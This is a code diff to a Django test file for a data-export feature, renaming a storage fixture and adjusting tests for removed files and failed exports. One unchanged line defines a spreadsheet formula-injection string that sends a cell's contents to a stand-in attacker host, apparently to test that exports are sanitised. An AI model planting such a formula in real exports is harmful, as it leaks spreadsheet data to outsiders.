@@ -28,7 +28,7 @@ from tests.factories.shop import make_customer, make_invoice, make_payment
 from tests.factories.staff import client_of
 from tests.waiting import wait_for
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media")]
 EVIL = '=HYPERLINK("http://evil.example?x="&A1,"click")'
 
 
@@ -84,7 +84,7 @@ def test_a_file_that_was_removed_is_written_anew():
     assert Export.objects.get().file == second["file"]
 
 
-def test_a_failure_half_way_leaves_nothing_behind(storage, tmp_path, monkeypatch):
+def test_a_failure_half_way_leaves_nothing_behind(media, tmp_path, monkeypatch):
     monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
     failing = (make_customer() if number == 0 else 1 / 0 for number in range(2))
     monkeypatch.setattr(services, "stream", lambda rows: failing)
@@ -166,10 +166,10 @@ def test_the_admin_hands_out_the_file_to_who_may_see_it():
 
 
 @pytest.mark.django_db(transaction=True)
-def test_a_file_that_is_gone_is_not_found(admin_client, storage):
+def test_a_file_that_is_gone_is_not_found(admin_client, media):
     services.export("customers", "csv", job_id="j1")
     export = Export.objects.get()
-    (storage / export.file).unlink()
+    (media / export.file).unlink()
 
     assert admin_client.get(reverse("admin:exports_export_download", args=[export.pk])).status_code == 404
 
